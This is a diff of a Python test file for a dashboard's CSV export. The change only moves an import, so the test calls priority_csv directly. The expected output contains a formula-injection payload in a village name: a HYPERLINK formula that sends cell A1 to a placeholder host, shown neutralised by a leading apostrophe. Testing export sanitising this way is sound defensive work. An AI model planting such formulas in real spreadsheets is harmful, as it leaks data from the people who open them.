@@ -89,7 +89,7 @@ def test_xlsx_written_from_a_safe_table_holds_text_not_a_formula():
 
 # ------------------------------------------------------------------ at the export sites
 def test_priority_csv_neutralises_a_village_name():
-    from ilp_dash.ui import stunting as sv
+    from ilp_dash.ui.stunting_priority import priority_csv
 
     full = pd.DataFrame(
         {
@@ -100,7 +100,7 @@ def test_priority_csv_neutralises_a_village_name():
             "skor": [90.0, -1.5],
         }
     )
-    lines = sv.priority_csv(full).splitlines()
+    lines = priority_csv(full).splitlines()
     assert (
         lines[1]
         == '1,33.20.01.2001,"\'=HYPERLINK(""http://contoh.invalid/?d=""&A1,""Klik"")",Kedung,90.0'
